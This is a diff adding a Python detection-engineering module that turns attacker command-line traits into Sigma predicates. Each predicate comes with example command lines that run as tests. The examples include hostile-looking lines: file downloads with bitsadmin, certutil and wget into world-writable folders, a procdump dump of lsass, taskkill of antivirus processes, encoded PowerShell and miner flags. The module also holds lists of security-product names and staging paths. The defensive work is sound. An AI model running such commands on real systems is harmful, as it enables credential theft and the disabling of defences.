@@ -1,0 +1,211 @@
+"""What an attacker's command means, whatever its program → predicates that Sigma can say, one row each, with examples.
+
+``usual`` and ``kept`` are judgements made before a fleet is asked (see ``Predicate``); the fleet's own use corrects the
+first. Every row's examples run as tests.
+"""
+
+from dataclasses import dataclass
+
+from longtail.detections.predicates import Item, Predicate, contains, ends, flags, matches
+
+_SCHEMES = ("http://", "https://", "ftp://", "ftps://", "tftp://")
+_DIGITS = "123456789"
+LONG_ENCODED = 100
+"""Characters of base64 that are taken for encoded code."""
+
+SHARED_WRITABLE = (
+    "\\users\\public",
+    "\\windows\\temp",
+    "\\windows\\tasks",
+    "\\windows\\tracing",
+    "\\windows\\debug",
+    "\\windows\\fonts",
+    "\\windows\\help\\",
+    "\\windows\\media\\",
+    "\\windows\\registration\\crmlog",
+    "\\system32\\tasks",
+    "\\system32\\spool\\drivers\\color",
+    "\\system32\\spool\\printers",
+    "\\system32\\microsoft\\crypto\\rsa\\machinekeys",
+    "\\perflogs\\",
+    "\\$recycle.bin",
+    "\\recovery\\",
+    ":\\intel\\",
+    ":\\temp\\",
+    ":\\tmp\\",
+    "\\programdata\\",
+    "\\docume~1\\alluse~1",
+    "\\documents and settings\\all users",
+    "\\progra~3\\",
+    "%public%",
+    "%temp%",
+    "%tmp%",
+    "%programdata%",
+    "%allusersprofile%",
+    "$env:public",
+    "$env:temp",
+    "$env:tmp",
+    "$env:programdata",
+    "/users/public/",
+    "/windows/temp/",
+    "/programdata/",
+)
+PROFILE = (
+    "\\appdata\\",
+    "\\local settings\\temp",
+    "\\downloads\\",
+    "%appdata%",
+    "%localappdata%",
+    "$env:appdata",
+    "$env:localappdata",
+    "/appdata/",
+)
+UNIX_WRITABLE = ("/tmp/", "/var/tmp/", "/dev/shm/", "/run/shm/", "/run/user/")
+PROGRAM_ENDINGS = (
+    ".exe", ".dll", ".scr", ".com", ".pif", ".bat", ".cmd", ".ps1", ".vbs", ".vbe", ".js", ".jse", ".wsf", ".hta",
+    ".msi", ".cpl", ".sct",
+)  # fmt: skip
+_POSING = ("doc", "docx", "xls", "xlsx", "ppt", "pptx", "pdf", "rtf", "txt", "csv", "jpg", "jpeg", "png", "gif", "zip")
+_POSED = ("exe", "scr", "com", "pif", "bat", "cmd", "js", "vbs", "hta", "lnk", "ps1")
+SECURITY_PRODUCTS = (
+    "360rp", "360sd", "360tray", "360safe", "zhudongfangyu", "msmpeng", "mssense", "nissrv", "windefend", "avp.exe",
+    "avgsvc", "avastsvc", "ekrn", "egui", "savservice", "sophos", "mcshield", "mfemms", "ccsvchst", "rtvscan",
+    "ntrtscan", "tmlisten", "csfalcon", "sentinelagent", "cbdefense", "repux", "cylancesvc", "bdagent", "mbamservice",
+    "kxetray", "ksafe", "qqpctray", "f-secure", "fshoster", "sysmon", "elastic-endpoint", "cortex", "traps",
+)  # fmt: skip
+
+
+@dataclass(frozen=True, slots=True)
+class Meaning:
+    """A predicate, and the command lines it is tested with: two that mean it, two that look like it and do not."""
+
+    predicate: Predicate
+    has: tuple[str, str]
+    has_not: tuple[str, str]
+
+
+_ABOUT = {
+    "remote": "where", "url": "where", "url_by_number": "where", "share_by_number": "where", "address": "where",
+    "writable": "place", "unix_writable": "place",
+}  # fmt: skip
+
+
+def _row(
+    said: tuple[str, str], items: Item | tuple[Item, ...], odds: tuple[float, float], *examples: tuple[str, str]
+) -> Meaning:
+    name, says = said
+    among = items if isinstance(items, tuple) else (items,)
+    return Meaning(Predicate(name, says, among, *odds, about=_ABOUT.get(name, name)), *examples)
+
+
+GENERAL: tuple[Meaning, ...] = (
+    _row(
+        ("remote", "names a remote place, by address or share"),
+        contains(*_SCHEMES, "\\\\"),
+        (0.3, 0.97),
+        ("bitsadmin /transfer n http://1.2.3.4/a.exe c:\\a.exe", "copy \\\\10.0.0.5\\c$\\x.exe ."),
+        ("certutil -dump a.cer", "copy c:\\a d:\\b"),
+    ),
+    _row(
+        ("url", "names a remote address"),
+        contains(*_SCHEMES),
+        (0.15, 0.92),
+        ("certutil -urlcache -f https://a.example/x", "mshta HTTP://a.example/x.hta"),
+        ("certutil -dump a.cer", "copy \\\\a\\b c:\\d"),
+    ),
+    _row(
+        ("url_by_number", "names a remote address by number instead of name"),
+        contains(*(f"://{digit}" for digit in _DIGITS)),
+        (0.03, 0.45),
+        ("curl -o a http://203.0.113.9:8080/a", "mshta https://8.8.8.8/x.hta"),
+        ("curl https://www.example.com/1", "ping 10.1.2.3"),
+    ),
+    _row(
+        ("share_by_number", "names a network share by number instead of name"),
+        contains(*(f"\\\\{digit}" for digit in _DIGITS)),
+        (0.08, 0.7),
+        ("copy \\\\203.0.113.9\\a\\b c:\\d", "rundll32 \\\\10.0.0.9\\a\\x.dll,y"),
+        ("copy \\\\fs01\\a c:\\d", "certutil -dump c:\\a\\1.cer"),
+    ),
+    _row(
+        ("address", "names a machine by number"),
+        matches(r"[0-9]{1,3}\.[0-9]{1,3}\.[0-9]{1,3}\.[0-9]{1,3}"),
+        (0.12, 0.5),
+        ("cmd /c echo open 198.51.100.7>So.2", "ssh -R 1:127.0.0.1:3389 a@203.0.113.9"),
+        ("curl https://www.example.com/1.2/a.zip", "setup-1.2.3.exe"),
+    ),
+    _row(
+        ("writable", "names a place that anybody can write to"),
+        contains(*SHARED_WRITABLE, *PROFILE),
+        (0.2, 0.85),
+        ("bitsadmin /transfer n http://a/b c:\\Users\\Public\\Svn.exe", "certutil -f x %TEMP%\\a"),
+        ("certutil -dump c:\\certs\\a.cer", "dir C:\\Windows\\System32"),
+    ),
+    _row(
+        ("unix_writable", "names a place that anybody can write to"),
+        contains(*UNIX_WRITABLE),
+        (0.2, 0.9),
+        ("wget -q http://a/b -O /tmp/x", "sh -c '/dev/shm/.a/x &'"),
+        ("ls /usr/bin", "tar xz -C /srv/app"),
+    ),
+    _row(
+        ("ends_in_program", "ends in the name of a program or script"),
+        ends(*PROGRAM_ENDINGS, *(f'{ending}"' for ending in PROGRAM_ENDINGS), field="CommandLine"),
+        (0.15, 0.6),
+        ("bitsadmin /transfer n http://a/b c:\\Users\\Public\\Svn.exe", 'copy a "c:\\b c.dll"'),
+        ("bitsadmin /transfer n http://a/b.zip d:\\b.zip", "certutil.exe -dump a.cer"),
+    ),
+    _row(
+        ("encoded", "carries a long encoded text"),
+        matches(rf"[A-Za-z0-9+/]{{{LONG_ENCODED}}}"),
+        (0.1, 0.8),
+        ("powershell -enc " + "aGVsbG8gd29ybGQ" * 8, "sh -c 'echo " + "QUJDREVG" * 14 + " | base64 -d'"),
+        ("powershell -enc short", "ping -n 1 127.0.0.1"),
+    ),
+    _row(
+        ("double_ending", "names a program that poses as a document"),
+        contains(*(f".{posing}.{posed}" for posing in _POSING for posed in _POSED)),
+        (0.001, 0.9),
+        ("cmd /c start invoice.pdf.exe", "wscript C:\\Temp\\photo.jpg.vbs"),
+        ("C:\\App\\my.service.exe", "tar xf backup.txt.gz"),
+    ),
+    _row(
+        ("security_product", "names a security product's process or service"),
+        contains(*SECURITY_PRODUCTS),
+        (0.02, 0.7),
+        ("taskkill  /im 360rp.exe /f", "ntsd -c q -pn 360sd.exe"),
+        ("taskkill /im excel.exe /f", "net stop spooler"),
+    ),
+    _row(
+        ("inner_shell", "has another program run a shell"),
+        contains(
+            " cmd /c ", " cmd.exe /c ", '"cmd /c ', '"cmd.exe /c ', "'cmd /c ", '"/c ', "\\cmd.exe /c ", "cmd.exe -a ",
+            '"powershell ', "'powershell ", '"powershell.exe ', "powershell -nop", "powershell.exe -nop",
+        ),
+        (0.03, 0.8),
+        ('C:\\Temp\\x.exe -i -c "cmd /c whoami"', "wmic process call create \"cmd.exe /c a\""),
+        ("powershell -File C:\\jobs\\a.ps1", "notepad cmd.txt"),
+    ),
+    _row(
+        ("lsass", "names the process that keeps the credentials"),
+        contains("lsass"),
+        (0.003, 0.9),
+        ("procdump64.exe -accepteula -ma lsass.exe a.dmp", "powershell (Get-Process lsass).Id"),
+        ("procdump -ma sqlservr.exe", "tasklist"),
+    ),
+    _row(
+        ("mining", "speaks of a mining pool"),
+        contains("stratum+tcp", "stratum+ssl", "--donate-level", "--coin=", "cryptonight", "randomx", "xmrig"),
+        (0.0005, 0.9),
+        ("x.exe -o stratum+tcp://pool:3333 -u 4a", "a.exe --donate-level=1"),
+        ("donate.exe --level=1", "stratum.exe"),
+    ),
+    _row(
+        ("quiet_licence", "accepts a licence without being asked"),
+        flags(" -accepteula"),
+        (0.2, 0.7),
+        ("procdump64.exe -accepteula -ma lsass.exe a.dmp", "psexec /AcceptEula \\\\a cmd"),
+        ("psexec \\\\a cmd", "setup /quiet"),
+    ),
+)  # fmt: skip
+"""What may be meant by any program's command line."""
